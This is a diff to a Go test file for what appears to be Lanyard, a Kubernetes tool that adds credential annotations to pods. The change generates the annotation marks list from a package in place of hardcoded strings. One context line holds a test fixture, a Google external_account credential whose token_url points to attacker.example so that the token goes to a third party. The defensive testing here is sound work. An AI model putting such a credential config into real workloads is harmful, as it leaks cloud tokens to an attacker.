@@ -23,6 +23,8 @@ import (
 	clientcorev1 "k8s.io/client-go/kubernetes/typed/core/v1"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
+	"github.com/lanyard-dev/lanyard/pkg/annotations"
+	"github.com/lanyard-dev/lanyard/pkg/provider"
 	"github.com/lanyard-dev/lanyard/test/support/webhook"
 )
 
@@ -30,7 +32,13 @@ import (
 const marksDenied = "ValidatingAdmissionPolicy 'lanyard-guard-marks' with binding 'lanyard-guard-marks' denied request: lanyard: the annotations lanyard.dev/injected,"
 
 // marks are the annotations that Lanyard writes on a pod.
-var marks = []string{"lanyard.dev/injected", "lanyard.dev/aws-config", "lanyard.dev/gcp-credentials"}
+var marks = func() []string {
+	keys, err := annotations.NewKeys(annotations.DefaultPrefix, provider.Builtin())
+	if err != nil {
+		panic(err)
+	}
+	return keys.Marks()
+}()
 
 // stolen are Google credentials that send the token to somebody else.
 const stolen = `{"type":"external_account","token_url":"https://attacker.example/"}`
